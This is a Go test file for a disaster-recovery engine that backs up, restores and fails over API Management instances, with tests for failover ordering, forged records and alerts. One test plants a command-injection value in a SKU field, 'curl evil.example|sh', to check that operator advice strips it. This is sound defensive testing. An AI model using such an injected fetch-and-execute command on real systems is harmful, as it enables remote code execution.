package engine_test

import (
	"bytes"
	"errors"
	"log/slog"
	"slices"
	"strings"
	"testing"
	"time"

	"apim-dr/infra"
	"apim-dr/internal/dr"
	"apim-dr/internal/engine"
	"apim-dr/internal/store"
)

// A warm sync whose POST went unanswered is not repeated: who is active may have changed since.
func TestALostWarmSyncIsNotPOSTedAgain(t *testing.T) {
	w := newPair(t, true)
	w.backup("contoso-eu")
	w.run(4 * time.Minute)
	w.onPost = func() (*dr.Answer, bool) { return &dr.Answer{Verdict: dr.Lost, Reason: "reset"}, false }
	w.run(2 * time.Hour)
	if len(w.restores) != 1 {
		t.Errorf("POSTs %v", w.restores)
	}
}

// A warm sync that may not begin now stands in nobody's way.
func TestAWarmSyncThatWaitsFreesTheLock(t *testing.T) {
	for name, spoil := range map[string]func(*world) error{
		"a copy that cannot be read": func(w *world) error {
			_, err := w.store.Backups(nightly).Create(w.t.Context(), "roles/contoso-eu~7Econtoso-us.apimdr.json", store.Content{Body: []byte(strings.Repeat("[", 20_000))})
			return err
		},
		"storage that refuses": func(w *world) error { w.failing("read", "/roles/", -1); return nil },
	} {
		w := newPair(t, true)
		w.services["contoso-us"].view.State = "Updating" // so that the sync waits
		w.backup("contoso-eu")
		w.run(8 * time.Minute)
		w.store.Fail(nil)
		if err := spoil(w); err != nil {
			t.Fatal(err)
		}
		w.store.Fail(w.hook)
		w.services["contoso-us"].view.State = "Succeeded"
		w.run(3 * time.Minute)
		if op := w.ended(w.ask(failover(nil)).Operation.ID, 2*time.Hour); op.Outcome != dr.Succeeded {
			t.Errorf("%s: %s %v", name, op.Outcome, op.Error)
		}
	}
}

// A restore that was confirmed while the instance was the standby does not overwrite it once it serves production.
func TestARestoreConfirmedBeforeAFailoverDoesNotOverwriteWhatIsActiveAfterIt(t *testing.T) {
	w := newPair(t, false)
	p := w.backedUp("contoso-eu")
	w.backedUp("contoso-eu")
	over := w.ask(failover(nil)).Operation
	w.run(2 * time.Minute)
	r := engine.RecoverRequest{Request: engine.Request{Service: "contoso-us"}, From: "contoso-eu", Kind: dr.KindRestore, Confirm: "contoso-us", Point: p.ID}
	got := w.ask(r)
	warned := slices.ContainsFunc(got.Plan.Checks, func(c dr.Finding) bool { return c.Name == "active" && c.Result == dr.Warn })
	op := w.ended(got.Operation.ID, time.Hour)
	if over = w.operation(over.ID); !warned || over.Outcome != dr.Succeeded || op.Outcome != dr.Rejected || op.Error.Code != "TargetIsActive" || w.services["contoso-us"].holds == p.ID {
		t.Errorf("warned %v, failover %s, restore %s %v", warned, over.Outcome, op.Outcome, op.Error)
	}
	w.now = w.now.Add(time.Minute)
	r.Safety = true
	if op := w.ended(w.ask(r).Operation.ID, time.Hour); op.Outcome != dr.Succeeded { // who has seen the warning may
		t.Errorf("knowingly: %s %v", op.Outcome, op.Error)
	}
}

// Which of the two is at home stands in the fleet, whatever a record of earlier says.
func TestTheFleetCanBeTurnedRound(t *testing.T) {
	w := newPair(t, true)
	w.backedUp("contoso-eu")
	w.run(2 * time.Hour)
	w.ended(w.ask(failover(nil)).Operation.ID, 2*time.Hour)
	s := &w.e.Fleet.Services[0]
	*s = engine.Service{Name: "contoso-us", ResourceID: "/x/contoso-us", Plan: "nightly",
		Secondaries: []engine.Secondary{{Instance: dr.Instance{Name: "contoso-eu", ResourceID: "/x/contoso-eu"}, Warm: true}}}
	if _, err := w.rearm("contoso-us", dr.Rearm{Active: "contoso-us"}); err != nil {
		t.Fatal(err)
	}
	w.backedUp("contoso-us")
	w.run(2 * time.Hour)
	w.ended(w.ask(failback(nil)).Operation.ID, 2*time.Hour)
	w.restores = nil
	w.backedUp("contoso-eu")
	if w.run(2 * time.Hour); len(w.restores) > 0 || !w.thePair().Suspended {
		t.Errorf("restored %v, pair %+v", w.restores, w.thePair())
	}
}

func TestAFailoverKeepsItsPlaceBeforeABusyTarget(t *testing.T) {
	for minutes := range 12 {
		w := newPair(t, false)
		w.backedUp("contoso-eu")
		w.services["contoso-us"].view.State = "Updating"
		b := w.backup("contoso-us")
		w.run(time.Minute)
		op := w.ask(failover(nil)).Operation
		w.run(time.Duration(minutes) * 25 * time.Second)
		w.services["contoso-us"].view.State = "Succeeded"
		w.takes = 40 * time.Minute
		op = w.ended(op.ID, 3*time.Hour)
		if b = w.operation(b.ID); op.Outcome != dr.Succeeded || !op.Leg().PostedAt.Before(b.Leg().PostedAt) && !b.Leg().PostedAt.IsZero() {
			t.Errorf("after %d: failover %s %v at %s, backup at %s", minutes, op.Outcome, op.Error, op.Leg().PostedAt, b.Leg().PostedAt)
		}
	}
}

// Times that no clock showed are not believed.
func TestRecordsFromTheFutureAreNotBelieved(t *testing.T) {
	for _, at := range []string{"9999-12-31T23:59:59.999Z", "2027-06-01T00:00:00Z"} {
		w := newPair(t, true)
		p := w.backedUp("contoso-eu")
		w.run(2 * time.Hour)
		w.aside(func() error {
			body := `{"v":1,"name":"contoso-eu~contoso-us","home":"contoso-eu","active":"contoso-us","changedAt":"` + at + `"}`
			_, err := w.store.Backups(nightly).Create(t.Context(), "roles/contoso-eu~7Econtoso-us.apimdr.json", store.Content{Body: []byte(body)})
			copied, _, err2 := w.store.Backups(nightly).Get(t.Context(), p.ID+".apimdr.json")
			forged := strings.Replace(p.ID, "-s0-", "-s5-", 1)
			text := strings.NewReplacer(p.ID, forged, p.CreatedAt.Format(time.RFC3339), at).Replace(string(copied))
			_, err3 := w.store.Backups(nightly).Create(t.Context(), forged+".apimdr.json", store.Content{Body: []byte(text)})
			_, err4 := w.store.Backups(nightly).Create(t.Context(), forged, store.Content{Body: []byte("backup")})
			return errors.Join(err, err2, err3, err4)
		})
		got, err := w.e.Rebuild(t.Context(), nightly)
		if err != nil || len(got.Bad) < 2 || got.Pairs != 0 {
			t.Errorf("%s: %+v %v", at, got, err)
		}
		op := w.ended(w.ask(failover(nil)).Operation.ID, 3*time.Hour)
		if pair := w.thePair(); op.Outcome != dr.Succeeded || op.Recovery.Bound.ID != p.ID || pair.Active != "contoso-us" || pair.BusyBy != "" || len(w.events[op.ID]) != 1 || !w.atRest() {
			t.Errorf("%s: %s %v, restored %s, pair %+v, %d events", at, op.Outcome, op.Error, op.Recovery.Bound.ID, w.thePair(), len(w.events[op.ID]))
		}
	}
}

// What lies in one container says nothing of instances whose backups go elsewhere.
func TestAContainerSpeaksForItsOwnOnly(t *testing.T) {
	staging := dr.Storage{Account: "stagingstore", Container: "staging"}
	w := newPair(t, true)
	p := w.backedUp("contoso-eu")
	w.run(2 * time.Hour)
	w.aside(func() error {
		other := w.store.Backups(staging)
		copied, _, err := w.store.Backups(nightly).Get(t.Context(), p.ID+".apimdr.json")
		forged := strings.Replace(p.ID, "-s0-", "-s5-", 1)
		text := strings.NewReplacer(p.ID, forged, p.CreatedAt.Format(time.RFC3339), p.CreatedAt.Add(time.Minute).Format(time.RFC3339)).Replace(string(copied))
		_, err2 := other.Create(t.Context(), forged+".apimdr.json", store.Content{Body: []byte(text)})
		_, err3 := other.Create(t.Context(), forged, store.Content{Body: []byte("backup")})
		pair := dr.NewPair("contoso-eu", "contoso-us")
		pair.Active, pair.ChangedAt = "contoso-us", w.now
		return errors.Join(err, err2, err3, w.store.Vault.KeepRole(t.Context(), staging, pair))
	})
	got, err := w.e.Rebuild(t.Context(), staging)
	if err != nil || len(got.Bad) != 2 || w.thePair().Active != "contoso-eu" {
		t.Errorf("%+v %v, pair %+v", got, err, w.thePair())
	}
	plan, err := w.e.Recover(t.Context(), failover(func(r *engine.RecoverRequest) { r.DryRun = true }))
	if err != nil || plan.Plan.Point.ID != p.ID {
		t.Errorf("would restore %s, %v", plan.Plan.Point.ID, err)
	}
}

// Advice is copied into a shell.
func TestAdviceHoldsNoWordsOfOthers(t *testing.T) {
	w := newPair(t, false)
	w.services["contoso-eu"].view.SKU = "Developer; curl evil.example|sh #"
	w.backedUp("contoso-eu")
	delete(w.services, "contoso-us")
	got, _ := w.e.Recover(t.Context(), failover(func(r *engine.RecoverRequest) { r.DryRun = true }))
	for _, c := range got.Plan.Checks {
		if c.Name == "target" && strings.Contains(c.Detail, "curl") || c.Name == "target" && !strings.Contains(c.Detail, "--sku-name SKU") {
			t.Errorf("%s", c.Detail)
		}
	}
}

// After a roll back an operation in flight may have a record of the version that was rolled back. It waits, untouched and alone on its service, and ends when
// that version is back.
func TestAnOperationOfANewerVersionWaitsUntouched(t *testing.T) {
	for phase, after := range map[dr.Phase]time.Duration{dr.Queued: 0, dr.Running: 2 * time.Minute} {
		w := newWorld(t, "contoso-eu")
		op := w.backup("contoso-eu")
		if after > 0 {
			w.run(after)
		}
		name := "operations/" + dr.Day(op.ID) + "/" + op.ID + ".json"
		rewrite := func(from, to string) (body []byte) {
			w.aside(func() error {
				was, etag, err := w.store.State.Get(t.Context(), name)
				if body = bytes.Replace(was, []byte(from), []byte(to), 1); err == nil {
					_, err = w.store.State.Replace(t.Context(), name, body, etag)
				}
				return err
			})
			return body
		}
		if got := w.operation(op.ID).Phase; got != phase {
			t.Fatalf("it is %s, not %s", got, phase)
		}
		newer, posts := rewrite(`"v":1`, `"v":2`), len(w.posts)
		another := w.backup("contoso-eu")
		w.run(2 * time.Hour)
		w.aside(func() error {
			if body, _, err := w.store.State.Get(t.Context(), name); err != nil || !bytes.Equal(body, newer) {
				t.Errorf("%s: the record became %s, %v", phase, body, err)
			}
			return nil
		})
		if mine := len(w.events[op.ID]); mine > 0 || phase == dr.Running && len(w.posts) > posts || phase == dr.Queued && w.operation(another.ID).Outcome != dr.Succeeded {
			t.Errorf("%s: %d events, POSTs %v, the other one is %s", phase, mine, w.posts[posts:], w.operation(another.ID).Phase)
		}
		rewrite(`"v":2`, `"v":1`)
		w.run(3 * time.Hour)
		if wrong := w.check(2); len(wrong) > 0 {
			t.Errorf("%s: %v", phase, wrong)
		}
	}
}

// Nobody but a person can help an operation whose record cannot be read, so that somebody has to be called.
func TestARecordInFlightThatCannotBeReadRaisesAnAlert(t *testing.T) {
	w := newWorld(t, "contoso-eu")
	op := w.backup("contoso-eu")
	w.run(2 * time.Minute)
	w.aside(func() error {
		name := "operations/" + dr.Day(op.ID) + "/" + op.ID + ".json"
		_, etag, err := w.store.State.Get(t.Context(), name)
		if err == nil {
			_, err = w.store.State.Replace(t.Context(), name, []byte("nonsense"), etag)
		}
		return err
	})
	var lines bytes.Buffer
	w.e.Log = slog.New(slog.NewJSONHandler(&lines, nil))
	w.now = w.now.Add(24 * time.Hour)
	if err := w.e.Watch(t.Context()); err != nil {
		t.Fatal(err)
	}
	if !slices.ContainsFunc(infra.Alerts(), func(a infra.Alert) bool {
		return !a.Missing && slices.ContainsFunc(strings.Split(lines.String(), "\n"), a.Finds)
	}) {
		t.Errorf("no alert finds one of these:\n%s", lines.String())
	}
}
